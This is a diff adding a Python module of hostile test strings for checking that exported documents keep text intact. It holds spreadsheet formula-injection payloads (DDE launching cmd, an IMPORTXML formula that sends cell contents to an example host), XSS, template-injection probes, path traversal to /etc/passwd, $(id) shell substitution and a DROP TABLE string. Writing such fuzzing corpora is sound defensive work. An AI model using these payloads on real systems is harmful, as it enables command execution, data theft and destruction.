@@ -1,0 +1,115 @@
+"""Texts that people do write, and texts that are meant to break a document: each must stay the text it is."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_BEGINNINGS = ("=", "+", "-", "@", "\t=", "'", '"', " =", "＝", "\n=")
+_FORMULAS = (
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"A0")',
+    'HYPERLINK("http://example.org","点此")',
+    'WEBSERVICE("http://example.org")',
+    "SUM(A1:A9)",
+    'IMPORTXML(CONCAT("http://example.org",A1),"//a")',
+    "A1",
+    "2021-06-30",
+    "",
+)
+_MARKUP = (
+    "<b>甲&乙公司</b>",
+    "甲&乙公司",
+    "&amp;&lt;&#x0;&#65;",
+    "<!-- -->",
+    "]]>",
+    "<![CDATA[x]]>",
+    "<?xml version='1.0'?><a/>",
+    '<!DOCTYPE a [<!ENTITY b "c">]>&b;',
+    "</t></is></c>",
+    "<w:p><w:r><w:t>另起一段</w:t></w:r></w:p>",
+    '"><script>alert(1)</script>',
+    "<f>1+1</f>",
+)
+_TEMPLATES = (
+    "{{ 7*7 }}",
+    "{% raw %}",
+    "{% for x in range(9) %}",
+    "{# #}",
+    "{{ ''.__class__.__mro__ }}",
+    "{%p if x %}",
+    "{{r x }}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "%(title)s",
+    "{title}",
+)
+_LOOKALIKES = (
+    "_x0041_",
+    "_x005F_",
+    "_x000D_",
+    "0012",
+    "1e5",
+    "1/2",
+    "TRUE",
+    "#N/A",
+    "#REF!",
+    "2021-06-30",
+    "6月30日",
+    "50%",
+    "￥100",
+    "NaN",
+    "None",
+    "null",
+    "http://example.org",
+    "mailto:a@b.c",
+    "file:///etc/passwd",
+    "internal:'事项'!A1",
+    "external:c:\\x.xlsx",
+    "\\\\server\\share",
+    "{=SUM(1)}",
+    "&P&N&D",
+)
+_SIGNS = (
+    "两行\n文字",
+    "  两端有空格  ",
+    "制表\t符",
+    "😀𠮷",
+    "👨‍👩‍👧",
+    "é",
+    "\u202e倒写\u202c",
+    "\u2066隔离\u2069",
+    "\u200b零宽\u200d",
+    "\ufeff开头",
+    "عربى",
+    "ไทย",
+    "a\u0300\u0301\u0302",
+    "〔2021〕3号",
+    "①②③",
+    "“百园增效”",
+    "'",
+    "''",
+    '"',
+    "\\",
+    "%",
+    "%s%n",
+    "$a^b$",
+    "`id`",
+    "$(id)",
+    "; DROP TABLE task; --",
+    "../../etc/passwd",
+    "CON",
+)
+_CONTROLS = tuple(f"甲{chr(code)}乙" for code in (*range(32), 0x7F, 0x85, 0x9F, 0x2028, 0x2029, 0xD800, 0xFFFE, 0xFFFF))
+_LONG = ("长" * 30_000, "=" + "长" * 29_999, "𠮷" * 15_000, "<&>" * 10_000, "a" * 32_767)
+
+HOSTILE = (
+    *(begins + formula for begins, formula in product(_BEGINNINGS, _FORMULAS)),
+    *_MARKUP,
+    *_TEMPLATES,
+    *_LOOKALIKES,
+    *_SIGNS,
+    *_CONTROLS,
+    *_LONG,
+)
